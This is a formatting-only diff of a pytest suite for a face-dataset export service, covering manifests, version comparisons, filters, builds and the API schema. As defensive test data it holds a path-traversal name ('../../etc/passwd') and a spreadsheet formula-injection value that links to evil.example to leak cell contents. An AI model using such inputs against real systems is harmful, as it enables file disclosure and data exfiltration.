@@ -4,6 +4,7 @@ Faces are real glint24 crops (FaceFactory rows whose crop is the original JPEG, 
 importer groups crops: ``crop:<sha256>``). Jobs run in-process by calling their task;
 test_export_worker.py runs them through a real Celery worker.
 """
+
 from __future__ import annotations
 
 import csv
@@ -40,12 +41,19 @@ def glint_faces(root: Path, name: str, identity: Identity | None, count: int, **
     for index, path in enumerate(sorted((root / "glint24" / name).glob("*.jpg"))[:count]):
         data = path.read_bytes()
         sha = hashlib.sha256(data).hexdigest()
-        faces.append(FaceFactory(
-            identity=identity, crop=ContentFile(data, name=f"{sha[:16]}.jpg"), content_sha256=sha,
-            source_path=f"{name}/{path.name}", group_key=f"crop:{sha}", split=SPLIT_CYCLE[index % 5],
-            box=[0, 0, 112, 112], landmarks=[[38.3, 51.7], [73.5, 51.5], [56.0, 71.7], [41.5, 92.4], [70.7, 92.2]],
-            status=fields.get("status", Face.Status.VERIFIED),
-        ))
+        faces.append(
+            FaceFactory(
+                identity=identity,
+                crop=ContentFile(data, name=f"{sha[:16]}.jpg"),
+                content_sha256=sha,
+                source_path=f"{name}/{path.name}",
+                group_key=f"crop:{sha}",
+                split=SPLIT_CYCLE[index % 5],
+                box=[0, 0, 112, 112],
+                landmarks=[[38.3, 51.7], [73.5, 51.5], [56.0, 71.7], [41.5, 92.4], [70.7, 92.2]],
+                status=fields.get("status", Face.Status.VERIFIED),
+            )
+        )
     return faces
 
 
@@ -206,16 +214,27 @@ def test_relabelling_after_export_leaves_the_version_unchanged_and_the_compariso
     relabels = {e["face_id"]: e for e in diff["examples"]["relabelled"]}
     assert relabels[moved.pk]["from_label"] == "Hugh Laurie" and relabels[moved.pk]["to_label"] == "Tina Fey"
     assert relabels[faces["Keanu Reeves"][0].pk]["to_label"] == "Keanu Charles Reeves"
-    assert diff["examples"]["removed"] == [{"face_id": thrown_out.pk, "label": "Tina Fey",
-                                            "split": rows[thrown_out.pk].split}]
+    assert diff["examples"]["removed"] == [
+        {"face_id": thrown_out.pk, "label": "Tina Fey", "split": rows[thrown_out.pk].split}
+    ]
     same = admin_client_api.get(f"{VERSIONS}{before.pk}/compare/?to={before.pk}").data
     assert same["identical"] and same["added"] == same["removed"] == same["relabelled"] == 0
     assert same["per_identity"] == []
     per_label = {row["label"]: row for row in diff["per_identity"]}
-    assert per_label["Hugh Laurie"] == {"label": "Hugh Laurie", "added": 0, "removed": 0,
-                                        "relabelled_in": 0, "relabelled_out": 1}
-    assert per_label["Tina Fey"] == {"label": "Tina Fey", "added": 0, "removed": 1,
-                                     "relabelled_in": 1, "relabelled_out": 0}
+    assert per_label["Hugh Laurie"] == {
+        "label": "Hugh Laurie",
+        "added": 0,
+        "removed": 0,
+        "relabelled_in": 0,
+        "relabelled_out": 1,
+    }
+    assert per_label["Tina Fey"] == {
+        "label": "Tina Fey",
+        "added": 0,
+        "removed": 1,
+        "relabelled_in": 1,
+        "relabelled_out": 0,
+    }
     assert per_label["Keanu Charles Reeves"]["relabelled_in"] == per_label["Keanu Reeves"]["relabelled_out"] == 5
 
 
@@ -261,8 +280,12 @@ def test_jsonl_and_csv_manifests_carry_labels_splits_boxes_landmarks_and_sources
     assert [r["face_id"] for r in records] == sorted(rows)
     for record in records:
         row = rows[record["face_id"]]
-        assert (record["label"], record["split"], record["identity_id"], record["source"]) == \
-               (row.label, row.split, row.identity_id, row.source)
+        assert (record["label"], record["split"], record["identity_id"], record["source"]) == (
+            row.label,
+            row.split,
+            row.identity_id,
+            row.source,
+        )
         assert record["image"] == f"{row.split}/{row.label_key}/{row.face_id}.jpg"
         assert record["class_index"] == version.classes.index(row.label_key)
         assert record["box"] == [0.0, 0.0, 112.0, 112.0] and len(record["landmarks"]) == 5
@@ -312,7 +335,8 @@ def test_parquet_holds_image_bytes_in_row_groups_and_loads_with_pandas_and_datas
     monkeypatch.setenv("HF_DATASETS_CACHE", str(tmp_path / "hf-cache"))
     monkeypatch.setenv("HF_HUB_OFFLINE", "1")
     loaded = datasets.load_dataset(
-        "parquet", data_files={split: str(local[f"{split}.parquet"]) for split in ("train", "val", "test")},
+        "parquet",
+        data_files={split: str(local[f"{split}.parquet"]) for split in ("train", "val", "test")},
         cache_dir=str(tmp_path / "hf-cache"),
     )
     train = loaded["train"]
@@ -399,8 +423,12 @@ def test_annotators_and_anonymous_users_can_neither_create_nor_download(
 
 def test_unknown_or_malformed_filters_are_refused_naming_the_field(admin_client_api, curated):
     cases = [
-        ({"colour": "blue"}, "colour"), ({"status": "all"}, "status"), ({"splits": ["holdout"]}, "splits"),
-        ({"chunks": ["one"]}, "chunks"), ({"sources": "photo"}, "sources"), ({"distractors": "maybe"}, "distractors"),
+        ({"colour": "blue"}, "colour"),
+        ({"status": "all"}, "status"),
+        ({"splits": ["holdout"]}, "splits"),
+        ({"chunks": ["one"]}, "chunks"),
+        ({"sources": "photo"}, "sources"),
+        ({"distractors": "maybe"}, "distractors"),
     ]
     for body, field in cases:
         response = admin_client_api.post(VERSIONS, body, format="json")
@@ -422,12 +450,16 @@ def test_build_requests_are_checked(admin_client_api, curated):
     response = admin_client_api.post(f"{VERSIONS}{pending['id']}/build/", {"format": "csv"}, format="json")
     assert response.status_code == 409 and "not frozen yet" in response.data["detail"]
     tasks.freeze_version(pending["job"])
-    for body, field in (({"format": "tfrecord"}, "format"), ({}, "format"),
-                        ({"format": "webdataset", "shard_size": 0}, "shard_size")):
+    for body, field in (
+        ({"format": "tfrecord"}, "format"),
+        ({}, "format"),
+        ({"format": "webdataset", "shard_size": 0}, "shard_size"),
+    ):
         response = admin_client_api.post(f"{VERSIONS}{pending['id']}/build/", body, format="json")
         assert response.status_code == 400 and field in response.data
-    response = admin_client_api.post(f"{VERSIONS}{pending['id']}/build/", {"format": "csv", "shard_size": 5},
-                                     format="json")
+    response = admin_client_api.post(
+        f"{VERSIONS}{pending['id']}/build/", {"format": "csv", "shard_size": 5}, format="json"
+    )
     assert response.status_code == 400 and response.data["field"] == "shard_size"
 
 
@@ -468,14 +500,32 @@ def test_a_failed_build_leaves_no_file_behind_and_can_be_started_again(admin_cli
 
 
 # --- Names ----------------------------------------------------------------------------------
-NASTY_NAMES = ["../../etc/passwd", "a/b", "a_b", "..", ".hidden", "_distractor", "Zoë Kravitz", "李小龙",
-               "CON", "Robert Downey Jr.", "tab\there", "OBAMA", "obama", "x" * 150]
+NASTY_NAMES = [
+    "../../etc/passwd",
+    "a/b",
+    "a_b",
+    "..",
+    ".hidden",
+    "_distractor",
+    "Zoë Kravitz",
+    "李小龙",
+    "CON",
+    "Robert Downey Jr.",
+    "tab\there",
+    "OBAMA",
+    "obama",
+    "x" * 150,
+]
 
 
 def test_identity_names_become_safe_unique_folders(admin_client_api, tmp_path):
     for index, name in enumerate(NASTY_NAMES):
-        FaceFactory(identity=IdentityFactory(name=name, role="vip", chunk=1), status="verified", split="train",
-                    group_key=f"crop:nasty-{index}")
+        FaceFactory(
+            identity=IdentityFactory(name=name, role="vip", chunk=1),
+            status="verified",
+            split="train",
+            group_key=f"crop:nasty-{index}",
+        )
     FaceFactory(identity=None, status="verified", split="train", group_key="crop:unknown")
     version = create_version(admin_client_api, distractors=True)
     folders = version.classes
@@ -505,10 +555,20 @@ def test_identity_names_become_safe_unique_folders(admin_client_api, tmp_path):
 
 def test_csv_manifest_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(admin_client_api, tmp_path):
     formula_file = '=HYPERLINK("http://evil.example/?leak="&A1,"click").jpg'
-    FaceFactory(identity=IdentityFactory(name="@SUM(1+1)", role="vip", chunk=1), status="verified", split="train",
-                group_key="crop:formula", source_path=f"uploads/{formula_file}")
-    FaceFactory(identity=IdentityFactory(name="-2+3", role="vip", chunk=1), status="verified", split="train",
-                group_key="crop:minus", source_path=formula_file)
+    FaceFactory(
+        identity=IdentityFactory(name="@SUM(1+1)", role="vip", chunk=1),
+        status="verified",
+        split="train",
+        group_key="crop:formula",
+        source_path=f"uploads/{formula_file}",
+    )
+    FaceFactory(
+        identity=IdentityFactory(name="-2+3", role="vip", chunk=1),
+        status="verified",
+        split="train",
+        group_key="crop:minus",
+        source_path=formula_file,
+    )
     version = create_version(admin_client_api)
     (manifest,) = [f for f in build(admin_client_api, version, "csv") if f["name"] == "manifest.csv"]
     with fetch(admin_client_api, [manifest], tmp_path)["manifest.csv"].open(newline="", encoding="utf-8") as handle:
@@ -526,8 +586,21 @@ def test_the_export_dataset_command_freezes_and_builds(curated, tmp_path):
     from django.core.management import call_command
 
     out = io.StringIO()
-    call_command("export_dataset", "--name", "cli", "--chunks", "1", "--format", "csv", "webdataset",
-                 "--shard-size", "3", "--out", str(tmp_path / "out"), stdout=out)
+    call_command(
+        "export_dataset",
+        "--name",
+        "cli",
+        "--chunks",
+        "1",
+        "--format",
+        "csv",
+        "webdataset",
+        "--shard-size",
+        "3",
+        "--out",
+        str(tmp_path / "out"),
+        stdout=out,
+    )
     version = DatasetVersion.objects.get(name="cli")
     assert version.face_count == 10 and f"sha256 {version.content_hash}" in out.getvalue()
     copied = sorted(p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*") if p.is_file())
@@ -538,9 +611,14 @@ def test_the_export_dataset_command_freezes_and_builds(curated, tmp_path):
 
 def test_the_export_endpoints_are_in_the_openapi_schema(admin_client_api):
     paths = admin_client_api.get("/api/schema/?format=json").json()["paths"]
-    for path in ("/api/v1/exports/versions/", "/api/v1/exports/versions/{id}/build/",
-                 "/api/v1/exports/versions/{id}/compare/", "/api/v1/exports/versions/{id}/checksums/",
-                 "/api/v1/exports/versions/{id}/files/", "/api/v1/exports/files/{id}/download/"):
+    for path in (
+        "/api/v1/exports/versions/",
+        "/api/v1/exports/versions/{id}/build/",
+        "/api/v1/exports/versions/{id}/compare/",
+        "/api/v1/exports/versions/{id}/checksums/",
+        "/api/v1/exports/versions/{id}/files/",
+        "/api/v1/exports/files/{id}/download/",
+    ):
         assert path in paths, path
     download = paths["/api/v1/exports/files/{id}/download/"]["get"]
     assert {"200", "206", "416"} <= set(download["responses"])
@@ -567,6 +645,7 @@ def test_of_two_overlapping_runs_of_one_build_the_first_to_finish_keeps_its_file
     services.build_run(build_id=build_row.pk)  # ready: nothing is written again
     build_row.refresh_from_db()
     assert started and overtaken and build_row.state == "ready"
-    stored = sorted(p.relative_to(media_in_tmp).as_posix() for p in (media_in_tmp / "exports").rglob("*")
-                    if p.is_file())
+    stored = sorted(
+        p.relative_to(media_in_tmp).as_posix() for p in (media_in_tmp / "exports").rglob("*") if p.is_file()
+    )
     assert stored == sorted(build_row.files.values_list("storage_name", flat=True)) and len(stored) == 2
